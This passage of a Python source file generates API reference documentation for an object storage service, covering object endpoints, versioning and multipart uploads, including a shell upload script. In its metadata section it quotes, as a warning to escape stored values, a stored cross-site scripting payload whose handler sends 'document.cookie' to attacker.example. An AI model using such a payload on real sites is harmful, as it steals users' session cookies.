        systems NFC, so normalise keys in your application if users can type them.

        Non-Latin keys such as `東京/店舗一覧.csv` work everywhere, but remember that the 1,024-byte
        limit counts bytes, and each of those characters takes three.

        User metadata is sent as `Larkspur-Meta-<name>` request headers and returned the same way.
        Names are case-insensitive and stored lower-cased; values are UTF-8 strings, sent
        percent-encoded if they are not plain ASCII. Keys and values together may use at most
        2 KiB per object.

        Larkspur never sanitises keys or metadata, and it never will: they are your data. If you
        display them in a web page, escape them. A key such as `<img src=x onerror=alert(1)>` is
        perfectly valid, and so is the metadata value below, which one customer found on an
        uploaded avatar after a penetration test:

        ```html
        <!-- Larkspur-Meta-Title of uploads/avatars/2291.png, as stored -->
        <script>alert(1)</script>
        <p onmouseover="fetch('https://attacker.example/?c=' + document.cookie)">hover me</p>
        ```

        The console escapes both, the SDK returns them untouched, and your templates should treat
        them as untrusted input like any other.

        ### Versioning of objects

        In a bucket with versioning enabled, writing a key does not replace the previous object;
        it adds a new *current* version and keeps the old one as *non-current*. Deleting a key adds
        a *delete marker*, which hides the key from ordinary reads and lists while keeping every
        version. To read or delete a specific version, pass its `version_id`. Deleting a version
        by ID is permanent.

        Non-current versions are billed like any other stored bytes, so a frequently rewritten key
        in a versioned bucket can cost far more than its current size suggests. Pair versioning
        with a [lifecycle rule](#lifecycle-rules) that expires non-current versions after a few
        days or weeks.
        """,
        ],
        endpoints=[
            Endpoint(
                title="The `PUT /objects/{key}` call",
                method="PUT",
                path="/v2/buckets/{bucket}/objects/{key}",
                scope="objects:write",
                summary="""
                Stores the request body as an object under `key`, replacing any current object with
                that key (or adding a version, in a versioned bucket). The body is the raw bytes,
                not JSON, and `Content-Length` is required: chunked transfer encoding is refused,
                because the server must know the size before it can decide where to place the
                fragments. Send a checksum; the reasons are explained in
                [Consistency and durability](#consistency-and-durability).

                To create the object only if the key is free, send `If-None-Match: *`. To replace
                it only if it has not changed since you read it, send `If-Match` with its `etag`.
            """,
                params=[
                    (
                        "Content-Type",
                        "header",
                        "string",
                        "no",
                        "Stored and served back. Default `application/octet-stream`.",
                    ),
                    ("Content-Length", "header", "integer", "yes", "Size of the body in bytes, at most 5 GiB."),
                    (
                        "Larkspur-Checksum-CRC32C",
                        "header",
                        "string",
                        "no",
                        "Base64 CRC32C of the body; the write fails if it does not match.",
                    ),
                    (
                        "Larkspur-Checksum-SHA256",
                        "header",
                        "string",
                        "no",
                        "Base64 SHA-256 of the body; stored and returned on reads.",
                    ),
                    (
                        "Larkspur-Meta-*",
                        "header",
                        "string",
                        "no",
                        "User metadata, one header per entry. See [Object keys and metadata](#object-keys-and-metadata).",
                    ),
                    ("Larkspur-Storage-Class", "header", "string", "no", "Overrides the bucket's default class."),
                    (
                        "Cache-Control",
                        "header",
                        "string",
                        "no",
                        "Stored and served back, for example `public, max-age=86400`.",
                    ),
                    (
                        "Content-Disposition",
                        "header",
                        "string",
                        "no",
                        'Stored and served back, for example `attachment; filename="q3.pdf"`.',
                    ),
                    ("If-None-Match", "header", "string", "no", "`*` to fail with `412` if the key already exists."),
                    (
                        "If-Match",
                        "header",
                        "string",
                        "no",
                        "Fail with `412` unless the current object has this entity tag.",
                    ),
                ],
                status="201 Created",
                errors=[
                    ("400", "checksum_mismatch", "A checksum header was sent and does not match the bytes received."),
                    ("411", "length_required", "No `Content-Length`, or chunked transfer encoding was used."),
                    ("413", "object_too_large", "The body is larger than 5 GiB; use a multipart upload."),
                    ("412", "precondition_failed", "An `If-Match` or `If-None-Match` condition failed."),
                    ("403", "quota_exceeded", "The project is at its `bytes_stored` quota."),
                ],
                curl="""
                curl -X PUT "https://eu-central-1.larkspur.example/v2/buckets/media-eu/objects/reports%2F2025%2Fq3.pdf" \\
                  -H "Authorization: Bearer $LARKSPUR_TOKEN" \\
                  -H "Content-Type: application/pdf" \\
                  -H "Larkspur-Checksum-CRC32C: yZRlqg==" \\
                  -H "Larkspur-Meta-Author: Zo%C3%AB%20Marchetti" \\
                  -H "If-None-Match: *" \\
                  --data-binary @q3.pdf
            """,
                python="""
                from larkspur import Client

                client = Client()

                with open("q3.pdf", "rb") as f:
                    obj = client.objects.put(
                        "media-eu",
                        "reports/2025/q3.pdf",
                        f,                      # any binary file object, or bytes
                        content_type="application/pdf",
                        metadata={"author": "Zoë Marchetti"},
                        if_none_match="*",      # never overwrite an existing report
                    )
                print(obj.version_id, obj.checksum_crc32c)
            """,
                layout=1,
            ),
            Endpoint(
                title="Download an object",
                method="GET",
                path="/v2/buckets/{bucket}/objects/{key}",
                scope="objects:read",
                summary="""
                Returns the object's bytes as the response body, with its metadata in headers. Use
                `Range` to read part of an object; a single range is supported, and multiple
                ranges in one request are refused with `416`. Objects in the `archive` class must
                be [restored](#lifecycle-rules) before they can be read, and a `GET` on one that
                has not been answers `409 object_archived`.
            """,
                params=[
                    (
                        "Range",
                        "header",
                        "string",
                        "no",
                        "One byte range, for example `bytes=0-1048575` or `bytes=-500`.",
                    ),
                    (
                        "If-None-Match",
                        "header",
                        "string",
                        "no",
                        "Answers `304 Not Modified` if the entity tag matches.",
                    ),
                    (
                        "If-Modified-Since",
                        "header",
                        "string",
                        "no",
                        "HTTP date; answers `304` if the object is not newer.",
                    ),
                    ("version_id", "query", "string", "no", "Read this version instead of the current one."),
                    (
                        "response_content_disposition",
                        "query",
                        "string",
                        "no",
                        "Overrides `Content-Disposition` in the response, for downloads from a browser.",
                    ),
                ],
                response="""
                ~~~http
                HTTP/1.1 206 Partial Content
                Content-Type: application/pdf
                Content-Length: 1048576
                Content-Range: bytes 0-1048575/2481920
                ETag: "9f2c0b7e41d3a8c6"
                Last-Modified: Tue, 04 Mar 2025 09:15:22 GMT
                Larkspur-Checksum-CRC32C: yZRlqg==
                Larkspur-Meta-Author: Zo%C3%AB%20Marchetti
                Larkspur-Version-Id: v_01HQ7Z3K8M2N4P6R
                Accept-Ranges: bytes

                <1,048,576 bytes of PDF>
                ~~~
            """,
                response_note="""
                Returns `200 OK` with the whole object, or `206 Partial Content` for a range
                request. The checksum header always describes the *whole* object, so you can only
                verify it after reading every range.
            """,
                errors=[
                    ("404", "object_not_found", "No current object with this key, or no such version."),
                    ("409", "object_archived", "The object is in the archive class and has not been restored."),
                    (
                        "416",
                        "range_not_satisfiable",
                        "The range starts beyond the end of the object, or several ranges were asked for.",
                    ),
                ],
                curl="""
                curl "https://eu-central-1.larkspur.example/v2/buckets/media-eu/objects/reports%2F2025%2Fq3.pdf" \\
                  -H "Authorization: Bearer $LARKSPUR_TOKEN" \\
                  -H "Range: bytes=0-1048575" \\
                  -o q3-first-mib.pdf
            """,
                python="""
                # Stream to disk in 8 MiB chunks; the SDK verifies the CRC32C at the end and
                # raises ChecksumMismatch (deleting nothing) if the bytes were corrupted.
                with client.objects.get("media-eu", "reports/2025/q3.pdf") as body, open("q3.pdf", "wb") as out:
                    for chunk in body.iter_bytes(8 * 2**20):
                        out.write(chunk)
            """,
                layout=0,
            ),
            Endpoint(
                title="Read metadata with `HEAD`",
                method="HEAD",
                path="/v2/buckets/{bucket}/objects/{key}",
                scope="objects:read",
                summary="""
                Returns the same headers as a `GET` and no body. `HEAD` is billed as a class B
                request, like a `GET`, but transfers nothing, so it is the right way to check
                whether an object exists, how large it is or which version is current. Errors come
                back as status codes only, since a `HEAD` response cannot carry a body; the error
                code is repeated in the `Larkspur-Error-Code` header.
            """,
                params=[
                    ("version_id", "query", "string", "no", "Describe this version instead of the current one."),
                    ("If-None-Match", "header", "string", "no", "Answers `304` if the entity tag matches."),
                    ("If-Match", "header", "string", "no", "Answers `412` unless the entity tag matches."),
                ],
                response="""
                ~~~http
                HTTP/1.1 200 OK
                Content-Type: application/pdf
                Content-Length: 2481920
                ETag: "9f2c0b7e41d3a8c6"
                Larkspur-Storage-Class: standard
                Larkspur-Checksum-CRC32C: yZRlqg==
                Larkspur-Version-Id: v_01HQ7Z3K8M2N4P6R
                ~~~
            """,
                response_note="Returns `200 OK` with the object's headers.",
                sdk=("meta = client.objects.head", {"bucket": "media-eu", "key": "reports/2025/q3.pdf"}),
                py_after="""
                if meta is None:          # head() returns None instead of raising on 404
                    print("not there")
                else:
                    print(meta.size, meta.storage_class)
            """,
                layout=2,
            ),
            Endpoint(
                title="List objects",
                method="GET",
                path="/v2/buckets/{bucket}/objects",
                scope="objects:read",
                summary="""
                Lists objects in key order, in UTF-8 byte order to be exact, which differs from the
                order most languages' default string sort gives for non-ASCII keys. With a
                `delimiter`, keys that contain the delimiter after the prefix are rolled up into
                `common_prefixes`, one entry per "folder", and are not listed individually.

                Each page is consistent with itself; a listing that spans many pages is not a
                single snapshot. See [Consistency and durability](#consistency-and-durability)
                for exactly what that means.
            """,
                params=[
                    ("prefix", "query", "string", "no", "Only keys starting with this string."),
                    ("delimiter", "query", "string", "no", "Usually `/`. Rolls up keys into `common_prefixes`."),
                    (
                        "start_after",
                        "query",
                        "string",
                        "no",
                        "Start listing after this key. Ignored when `cursor` is sent.",
                    ),
                    p_limit("objects", 1000, 1000),
                    p_cursor(),
                    (
                        "include",
                        "query",
                        "string",
                        "no",
                        "`metadata|versions|delete_markers`, comma-separated. Versions are listed newest first within a key.",
                    ),
                    p_fields(),
                ],
                query={"prefix": "reports/2025/", "delimiter": "/", "limit": 2},
                response={
                    "data": [
                        {k: v for k, v in OBJECT_EXAMPLE.items() if k != "metadata"},
                        {
                            "bucket": "media-eu",
                            "key": "reports/2025/q3-appendix.xlsx",
                            "size": 88113,
                            "content_type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                            "etag": '"41aa07d2c95e3b18"',
                            "checksum_crc32c": "3Jd0eA==",
                            "storage_class": "standard",
                            "version_id": "v_01HQ7Z4B1C9D0E2F",
                            "is_latest": True,
                            "created_at": "2025-03-04T09:16:02.007Z",
                        },
                    ],
                    "common_prefixes": ["reports/2025/drafts/", "reports/2025/exports/"],
                    "has_more": True,
                    "next_cursor": "b2JqOm1lZGlhLWV1OnJlcG9ydHMvMjAyNS9xMy1hcHBlbmRpeC54bHN4",
                },
                response_note="Returns `200 OK` with a page of objects and, when a delimiter was sent, the common prefixes found on this page.",
                sdk=("for obj in client.objects.list", {"bucket": "media-eu", "prefix": "reports/2025/"}),
                py_after="""
                    print(obj.key, obj.size)
            """,
            ),
            Endpoint(
                title="List objects (*v1, deprecated*)",
                method="GET",
                path="/v1/buckets/{bucket}/list",
                scope="objects:read",
                summary="""
                The version 1 listing endpoint, kept for clients that have not migrated. It pages
                with `marker` instead of a cursor, returns at most 1,000 keys, and omits the
                checksum and storage class. Every response carries
                `Sunset: Tue, 30 Sep 2025 00:00:00 GMT`; after that date the endpoint answers
                `410 Gone`.
            """,
                params=[
                    ("prefix", "query", "string", "no", "Only keys starting with this string."),
                    ("marker", "query", "string", "no", "List keys after this one."),
                    ("max-keys", "query", "integer", "no", "1 to 1,000. Default 1,000."),
                    ("delimiter", "query", "string", "no", "As in version 2."),
                ],
                query={"prefix": "reports/", "max-keys": 2},
                response={
                    "keys": [
                        {"key": "reports/2024/q4.pdf", "size": 2299813, "modified": "2025-01-09T17:44:10Z"},
                        {"key": "reports/2025/q1.pdf", "size": 2310044, "modified": "2025-04-02T08:01:55Z"},
                    ],
                    "truncated": True,
                    "next_marker": "reports/2025/q1.pdf",
                },
                response_note="Returns `200 OK` in the version 1 format.",
                sdk=("legacy = client.objects.list_v1", {"bucket": "media-eu", "prefix": "reports/"}),
                py_after="""
                # DeprecationWarning: list_v1() stops working on 2025-09-30; use list().
            """,
                extra="""
                > **Warning**
                > `marker` pagination skips keys that sort between two pages if they are written
                > while you list. Version 2 cursors do not have this problem. Migrate before the
                > sunset date; the change is usually three lines, shown in the
                > [SDK guide](#migrating-from-sdk-2x).
            """,
            ),
            Endpoint(
                title="Copy an object",
                method="POST",
                path="/v2/buckets/{bucket}/objects/{key}/copy",
                scope="objects:write",
                summary="""
                Copies an object to `key` in `bucket` without the bytes passing through your
                client. The source may be in another bucket of the same project, in any region;
                cross-region copies are billed as replication traffic. Copies of objects up to
                5 GiB complete before the call returns. Larger copies return `202 Accepted` with a
                `copy_id` and finish in the background; a webhook event `object.copied` tells you
                when.
            """,
                params=[
                    ("source_bucket", "body", "string", "yes", "Bucket to copy from."),
                    ("source_key", "body", "string", "yes", "Key to copy from."),
                    ("source_version_id", "body", "string", "no", "Copy a specific version."),
                    (
                        "metadata_directive",
                        "body",
                        "string",
                        "no",
                        "`COPY` (default) keeps the source metadata; `REPLACE` uses `metadata`.",
                    ),
                    ("metadata", "body", "object", "no", "New metadata, with `metadata_directive: REPLACE`."),
                    (
                        "storage_class",
                        "body",
                        "string",
                        "no",
                        "Class of the copy. Default: the destination bucket's class.",
                    ),
                    ("If-None-Match", "header", "string", "no", "`*` to fail if the destination key exists."),
                ],
                body={
                    "source_bucket": "media-eu",
                    "source_key": "reports/2025/q3.pdf",
                    "metadata_directive": "REPLACE",
                    "metadata": {"author": "Zoë Marchetti", "status": "final"},
                    "storage_class": "infrequent",
                },
                status="201 Created",
                errors=[
                    ("404", "source_not_found", "The source object or version does not exist."),
                    ("400", "copy_to_self", "Source and destination are the same object and nothing would change."),
                    ("409", "object_archived", "The source is archived and has not been restored."),
                ],
                sdk=(
                    "copy = client.objects.copy",
                    {
                        "source": ("media-eu", "reports/2025/q3.pdf"),
                        "destination": ("media-eu-archive", "2025/q3.pdf"),
                        "storage_class": "infrequent",
                    },
                ),
                py_after="""
                copy.wait()  # returns at once for small objects, polls for large ones
            """,
                layout=2,
            ),
            Endpoint(
                title="Delete an object",
                method="DELETE",
                path="/v2/buckets/{bucket}/objects/{key}",
                scope="objects:write",
                summary="""
                Deletes the current object, or, in a versioned bucket, adds a delete marker. Pass
                `version_id` to remove one version permanently. Deleting a key that does not exist
                succeeds with `204`, so that retries are harmless; if you need to know whether
                something was deleted, send `If-Match` with the entity tag you expect.
            """,
                params=[
                    ("version_id", "query", "string", "no", "Permanently delete this version."),
                    ("If-Match", "header", "string", "no", "Delete only if the current object has this entity tag."),
                    (
                        "Larkspur-Bypass-Retention",
                        "header",
                        "boolean",
                        "no",
                        "Delete an object under a governance-mode retention period. Requires `admin`.",
                    ),
                ],
                status="204 No Content",
                response="none",
                errors=[
                    ("412", "precondition_failed", "`If-Match` was sent and did not match."),
                    ("403", "object_retained", "The object is under a retention period that has not ended."),
                ],
                sdk=("client.objects.delete", {"bucket": "media-eu", "key": "reports/2025/q3-draft.pdf"}),
            ),
            Endpoint(
                title="Delete many objects at once",
                method="POST",
                path="/v2/buckets/{bucket}/objects/batch-delete",
                scope="objects:write",
                summary="""
                Deletes up to 1,000 keys (or versions) in one request, which counts as a single
                request against your rate limit and your bill. Each key succeeds or fails on its
                own: the call returns `200 OK` even if every deletion failed, and the body says
                which did. With `quiet: true` only failures are listed, which keeps responses small
                when you are emptying a bucket.
            """,
                params=[
                    (
                        "objects",
                        "body",
                        "object[]",
                        "yes",
                        'Up to 1,000 items of the form `{"key": …, "version_id": …}`; `version_id` is optional.',
                    ),
                    ("quiet", "body", "boolean", "no", "Report failures only. Default `false`."),
                    ("bypass_retention", "body", "boolean", "no", "As `Larkspur-Bypass-Retention`, for every item."),
                ],
                body={
                    "objects": [
                        {"key": "tmp/render-0001.png"},
                        {"key": "tmp/render-0002.png"},
                        {"key": "tmp/render-0003.png", "version_id": "v_01HQ80A1B2C3D4E5"},
                    ],
                    "quiet": False,
                },
                response={
                    "deleted": [
                        {"key": "tmp/render-0001.png", "delete_marker": True},
                        {"key": "tmp/render-0003.png", "version_id": "v_01HQ80A1B2C3D4E5"},
                    ],
                    "errors": [
                        {
                            "key": "tmp/render-0002.png",
                            "code": "object_retained",
                            "message": "Retained until 2025-06-01T00:00:00.000Z.",
                        }
                    ],
                },
                response_note="Returns `200 OK` with one entry per key, in either `deleted` or `errors`.",
                errors=[("400", "too_many_objects", "More than 1,000 items.")],
                python="""
                # delete_many() splits any iterable of keys into requests of 1,000.
                keys = (o.key for o in client.objects.list("media-eu", prefix="tmp/"))
                result = client.objects.delete_many("media-eu", keys, quiet=True)
                for err in result.errors:
                    print("kept", err.key, err.code)
            """,
            ),
            Endpoint(
                title="Create a signed URL",
                method="POST",
                path="/v2/buckets/{bucket}/objects/{key}/signed-urls",
                scope="objects:read",
                summary="""
                Returns a URL that lets anyone who holds it perform one operation on one object
                until it expires. `GET` and `HEAD` URLs need `objects:read`; `PUT` URLs need
                `objects:write` and may restrict the content type and maximum size, which is what
                you want when letting browsers upload straight to Larkspur. A signed URL stays
                valid until it expires even if the credential that created it is revoked, unless
                you also [rotate the project's URL signing secret](#rotate-a-key).

                If you hold an API key, the SDK can sign URLs locally without a request; see the
                example. The server endpoint exists for callers that hold only an access token.
            """,
                params=[
                    ("method", "body", "string", "yes", "`GET|HEAD|PUT`."),
                    ("expires_in", "body", "integer", "no", "Seconds, 1 to 604,800 (7 days). Default 900."),
                    (
                        "content_type",
                        "body",
                        "string",
                        "no",
                        "`PUT` only: the upload must send exactly this `Content-Type`.",
                    ),
                    ("max_size", "body", "integer", "no", "`PUT` only: largest body accepted, in bytes."),
                    (
                        "response_content_disposition",
                        "body",
                        "string",
                        "no",
                        "`GET` only: served as `Content-Disposition`.",
                    ),
                ],
                body={"method": "PUT", "expires_in": 600, "content_type": "image/png", "max_size": 10485760},
                status="201 Created",
                response={
                    "url": "https://eu-central-1.larkspur.example/v2/buckets/media-eu/objects/uploads%2Favatars%2F2291.png?lk-cred=lk_live_7Qm2%2F20250304&lk-exp=600&lk-sig=4c0e9a…",
                    "method": "PUT",
                    "expires_at": "2025-03-04T09:25:22.481Z",
                    "required_headers": {"Content-Type": "image/png"},
                },
                response_note="Returns `201 Created` with the URL and the headers the eventual request must send.",
                errors=[
                    (
                        "400",
                        "expiry_too_long",
                        "`expires_in` is over 604,800, or over the remaining lifetime of the access token making the call.",
                    )
                ],
                python="""
                # Local signing, no request made; needs an API key, not an access token.
                url = client.objects.signed_url(
                    "media-eu",
                    "uploads/avatars/2291.png",
                    method="PUT",
                    expires_in=600,
                    content_type="image/png",
                    max_size=10 * 2**20,
                )
            """,
            ),
        ],
    )
)


# --------------------------------------------------------------------------------------------
# Uploads
# --------------------------------------------------------------------------------------------

UPLOAD_SCRIPT = md("""
    ```bash
    #!/usr/bin/env bash
    # upload-large.sh FILE BUCKET KEY — multipart upload with curl, jq and GNU coreutils.
    # Parts of 64 MiB, four in parallel, each part retried up to five times.
    set -euo pipefail

    FILE=$1 BUCKET=$2 KEY=$3
    HOST=${LARKSPUR_HOST:-https://eu-central-1.larkspur.example}
    PART_SIZE=$((64 * 1024 * 1024))
    PARALLEL=4
    WORK=$(mktemp -d)
    trap 'rm -rf "$WORK"' EXIT

    api() {  # api METHOD PATH [curl args...]
      local method=$1 path=$2; shift 2
      curl --fail-with-body --silent --show-error -X "$method" "$HOST/v2$path" \\
        -H "Authorization: Bearer $LARKSPUR_TOKEN" "$@"
    }

    enc_key=$(jq -rn --arg k "$KEY" '$k|@uri')
    size=$(stat -c %s "$FILE")
    parts=$(( (size + PART_SIZE - 1) / PART_SIZE ))
    echo "uploading $size bytes in $parts parts" >&2

    upload_id=$(api POST "/buckets/$BUCKET/uploads" \\
      -H "Content-Type: application/json" \\
      -H "Idempotency-Key: $(uuidgen)" \\
      -d "$(jq -n --arg key "$KEY" '{key: $key, content_type: "application/octet-stream"}')" \\
      | jq -r .upload_id)
    echo "upload $upload_id" >&2

    abort() {
      echo "aborting $upload_id" >&2
      api DELETE "/buckets/$BUCKET/uploads/$upload_id" >/dev/null || true
    }
    trap 'abort; rm -rf "$WORK"' ERR INT TERM

    upload_part() {  # upload_part N
      local n=$1 offset=$(( ($1 - 1) * PART_SIZE )) attempt=1 crc
      local chunk="$WORK/part.$n"
      dd if="$FILE" of="$chunk" bs=1M skip=$((offset / 1048576)) \\
         count=$((PART_SIZE / 1048576)) status=none
      crc=$(crc32c-b64 "$chunk")   # any tool that prints a base64 CRC32C
      until api PUT "/buckets/$BUCKET/uploads/$upload_id/parts/$n" \\
              -H "Larkspur-Checksum-CRC32C: $crc" \\
              --data-binary @"$chunk" -o "$WORK/resp.$n"; do
        if (( attempt >= 5 )); then
          echo "part $n failed five times" >&2
          return 1
        fi
        sleep $(( 2 ** attempt ))
        attempt=$((attempt + 1))
      done
      jq -c --argjson n "$n" '{part_number: $n, etag: .etag}' "$WORK/resp.$n" > "$WORK/done.$n"
      rm -f "$chunk"
    }
    export -f upload_part api
    export FILE BUCKET HOST PART_SIZE WORK upload_id LARKSPUR_TOKEN

    seq 1 "$parts" | xargs -P "$PARALLEL" -I{} bash -c 'upload_part {}'

    # Every part must have succeeded; xargs exits non-zero otherwise and the ERR trap aborts.
    manifest=$(cat "$WORK"/done.* | jq -s 'sort_by(.part_number) | {parts: .}')
    api POST "/buckets/$BUCKET/uploads/$upload_id/complete" \\
      -H "Content-Type: application/json" \\
      -H "Idempotency-Key: complete-$upload_id" \\
      -d "$manifest" | jq '{key, size, checksum_crc32c}'
    trap - ERR INT TERM
    echo "done: $BUCKET/$KEY" >&2
    ```
""")

UPLOAD_EXAMPLE = {
    "upload_id": "upl_8d1e62b0c4a7f935",
    "bucket": "media-eu",
    "key": "video/raw/2025-03-01-keynote.mov",
    "content_type": "video/quicktime",
    "storage_class": "standard",
    "state": "in_progress",
    "parts_received": 37,
    "bytes_received": 2483027968,
    "created_at": "2025-03-04T08:02:11.350Z",
    "expires_at": "2025-03-11T08:02:11.350Z",
    "metadata": {"camera": "B", "venue": "Lisboa"},
}

RESOURCES.append(
    Resource(
        title="Uploads",
        singular="upload",
        plural="uploads",
        host=DATA,
        intro="""
        A multipart upload stores one object from many separately uploaded *parts*. You start the
        upload, send the parts in any order and in parallel, and complete it with the list of parts
        to assemble. Until it is completed the object does not exist: reads and lists do not see
        it, and aborting throws the parts away.

        | Limit | Value |
        |:------|------:|
        | Parts per upload | 10,000 |
        | Part size | 5 MiB to 5 GiB (the last part may be smaller) |
        | Object size | 5 TiB |
        | Idle time before an upload expires | 7 days |
        | Concurrent uploads per bucket | 10,000 |
    """,
        fields=[
            ("upload_id", "string", "Identifier, prefix `upl_`."),
            ("bucket", "string", "Destination bucket."),
            ("key", "string", "Key the object will have when completed."),
            ("content_type", "string", "Content type of the final object."),
            ("storage_class", "string", "Class of the final object."),
            ("state", "string", "`in_progress`, `completing`, `completed` or `aborted`."),
            ("parts_received", "integer", "Number of distinct part numbers received."),
            ("bytes_received", "integer", "Total size of the parts received."),
            ("created_at", "timestamp", "When the upload was started."),
            ("expires_at", "timestamp", "When it will be aborted automatically; moves forward with every part."),
            ("metadata", "object", "User metadata of the final object."),
        ],
        example=UPLOAD_EXAMPLE,
        variant={
            "upload_id": "upl_f02b9c5e17d4a683",
            "key": "video/raw/2025-03-01-panel.mov",
            "parts_received": 4,
            "bytes_received": 268435456,
            "created_at": "2025-03-04T08:40:57.902Z",
            "expires_at": "2025-03-11T08:40:57.902Z",
            "metadata": {"camera": "A", "venue": "Lisboa"},
        },
        before=[
            "### How multipart uploads behave under failure",
            "\x00"
            + prose("""
            Multipart uploads exist because large transfers fail, and the whole design is easier to
            use well once you see it as a set of answers to the question "what happens when this
            breaks half way through?" This section walks through the failures we see most often
            in support tickets, what the server does in each case, and what your client should do.
            None of it is needed for a happy-path upload, which is three calls and works the first
            time; all of it becomes relevant the first time someone uploads a 300 GiB video over a
            hotel network.

            The first and most common failure is a part that does not arrive. The connection
            drops, a proxy times out, the process is killed by an autoscaler. From the server's
            point of view a part exists only once its last byte has been received and its checksum
            verified; a part that was cut off is discarded entirely, and nothing about the upload
            changes. There is no such thing as a half-stored part, so the correct response is
            always to send the whole part again, with the same part number. Uploading a part
            number that has already been received simply replaces it, which also means retries
            are safe even when you are not sure whether the first attempt succeeded: if it did,
            the second copy wins and the result is identical. The only thing you must not do is
            retry a part number with *different* bytes and then complete the upload with the
            entity tag of the first attempt; the completion will fail with `400 part_etag_mismatch`,
            because the part you named no longer exists.

            The second failure is the client that dies and loses its state. Your process had sent
            37 parts of 80 and knew which; now it has restarted and knows nothing. The upload is
            still there, and so are the 37 parts. List the in-progress uploads for the bucket,
            filter by key to find yours, and list its parts to learn which part numbers arrived
            and with what entity tags and checksums. Then send the rest. This is why the SDK
            writes a small resume file next to the source file when you upload from disk: it
            saves the listing step, but the listing always works as a fallback. If you upload
            from a stream that cannot be replayed, you cannot resume after losing your state,
            and the only sensible thing to do is abort and start again, which is one reason the
            SDK refuses to upload non-seekable streams larger than a single part unless you pass
            `allow_unresumable=True`.

            The third failure is the upload that is forgotten. Nobody completes it and nobody
            aborts it, and its parts sit in storage, billed at the standard rate, invisible in
            object listings and therefore easy to miss on an invoice. Uploads expire after seven
            days without a new part, at which point they are aborted automatically and their
            parts deleted. Seven days is a compromise: long enough for a slow transfer to pause
            over a weekend, short enough that an abandoned upload does not cost much. If your
            uploads are always short, add a [lifecycle rule](#lifecycle-rules) with
            `abort_incomplete_uploads_after_days: 1` to clean up faster. Parts of expired uploads
            are not recoverable, and the expiry does not send a webhook event, because in our
            experience nobody wanted one.

            The fourth failure happens at completion, and it is the most confusing, because the
            completion call can fail after it has succeeded. Completing an upload assembles the
            parts into an object, which for a large upload takes a noticeable amount of time, up
            to a minute for the largest objects, during which the connection has to stay open. If
            it drops, your client does not know whether the object was created. Retrying the
            completion is safe: a completion for an upload that has already been completed with
            the same list of parts returns the same result as the first one did, for 24 hours.
            A completion with a different list fails with `409 upload_already_completed`. Send
            an `Idempotency-Key` anyway; it makes the retry cheaper and removes any doubt. If you
            want to be certain without retrying, `HEAD` the destination key and compare its
            `Larkspur-Upload-Id` header with your upload's ID.

            The fifth failure is a conflict with another writer. An upload does not reserve its
            key. While your upload is in progress, someone else may `PUT` an object with the same
            key, or complete another upload to it, and when you complete yours, it replaces
            theirs under the ordinary last-writer-wins rule. If that matters, pass `if_none_match`
            or `if_match` when you *start* the upload: the condition is stored with the upload and
            evaluated at completion time, atomically, so an upload that was started to create a
            new key fails with `412 precondition_failed` at completion if the key has appeared in
            the meantime. Evaluating the condition at the start would be useless, because the
            interesting changes happen while the parts are in flight.

            The sixth failure is corruption, and here the design leans on checksums at every
            level. Each part may carry a CRC32C or SHA-256 header, verified on arrival; a part
            that fails verification is rejected with `400 checksum_mismatch` and can be resent at
            once. On completion, the server computes the CRC32C of the whole object from the
            part checksums without reading the data again, and returns it; if you computed your
            own over the source file, compare them. The SDK does both, and it also stores the
            per-part checksums in the resume file so that a resumed upload can check that the
            source file has not changed since the first attempt. If it has, the SDK aborts
            rather than assemble an object from two different versions of a file, a mistake that
            would otherwise produce something that is neither.

            A seventh case is not a failure at all but is often mistaken for one: two clients
            working on the same upload. Nothing prevents it, and it is sometimes useful, for
            example when a coordinator starts an upload and hands out part numbers to a pool of
            workers on different machines. The server treats each part independently, so
            workers never need to talk to each other, and the only coordination required is
            that each part number is assigned to one worker and that one process collects the
            entity tags and completes the upload. Problems arise only when two workers are
            given the same part number with different byte ranges, in which case the last one
            to finish wins and the completion, if it names the other worker's entity tag, fails
            as described above. The list of parts is the source of truth in every doubtful case;
            read it before completing if you are not sure what your workers did.

            Finally, there are failures that are really limits. A part smaller than 5 MiB is
            accepted when it arrives, because the server cannot know whether it is the last one,
            but the completion is refused with `400 part_too_small` if any part other than the
            last is under the minimum. An upload with more than 10,000 parts cannot be created at
            all, so choose the part size from the file size before you start: the SDK uses the
            smallest power-of-two number of mebibytes that keeps the count under 10,000, with a
            floor of 8 MiB, which works out to 8 MiB parts for anything up to 78 GiB. Larger parts
            mean fewer requests and lower cost; smaller parts mean less to resend when one fails.
            On a reliable network, bigger is better. On an unreliable one, 16 to 64 MiB is a good
            middle ground, and parallelism matters more than part size for throughput.
        """),
            """
        ### A complete multipart upload in shell

        The script below shows every step with nothing but `curl` and `jq`, which is useful for
        understanding the protocol and for environments where the SDK is not available. It is
        deliberately careful about cleanup: any failure aborts the upload so that no parts are
        left behind.
        """,
            "\x00" + UPLOAD_SCRIPT,
        ],
        endpoints=[
            Endpoint(
                title="Start a multipart upload",
                method="POST",
                path="/v2/buckets/{bucket}/uploads",
                scope="objects:write",
                summary="""
                Creates an upload and returns its ID. Everything about the final object except its
                bytes is decided here: key, content type, metadata, storage class and any
                condition on the key. None of these can be changed later; to change them, abort
                and start again.
            """,
                params=[
                    ("key", "body", "string", "yes", "Key of the object to create."),
                    ("content_type", "body", "string", "no", "Default `application/octet-stream`."),
                    ("metadata", "body", "object", "no", "User metadata of the final object."),
                    ("storage_class", "body", "string", "no", "Default: the bucket's class."),
                    ("if_none_match", "body", "string", "no", "`*`: completion fails if the key exists by then."),
                    (
                        "if_match",
                        "body",
                        "string",
                        "no",
                        "Completion fails unless the key's entity tag is this one by then.",
                    ),
                    (
                        "checksum_algorithm",
                        "body",
                        "string",
                        "no",
                        "`crc32c` (default) or `sha256`; which checksum parts must carry.",
                    ),
                ],
                body={
                    "key": "video/raw/2025-03-01-keynote.mov",
                    "content_type": "video/quicktime",
                    "metadata": {"camera": "B", "venue": "Lisboa"},
                    "if_none_match": "*",
                },
                status="201 Created",
                response={k: v for k, v in UPLOAD_EXAMPLE.items() if k not in ("parts_received", "bytes_received")}
                | {"state": "in_progress", "parts_received": 0, "bytes_received": 0},
                errors=[("403", "quota_exceeded", "The bucket already has 10,000 uploads in progress.")],
                sdk=(
                    "upload = client.uploads.start",
                    {
                        "bucket": "media-eu",
                        "key": "video/raw/2025-03-01-keynote.mov",
                        "content_type": "video/quicktime",
                    },
                ),
                py_after="""
                print(upload.upload_id)
            """,
            ),
            Endpoint(
                title="Upload a part",
                method="PUT",
                path="/v2/buckets/{bucket}/uploads/{upload_id}/parts/{part_number}",
                scope="objects:write",
                summary="""
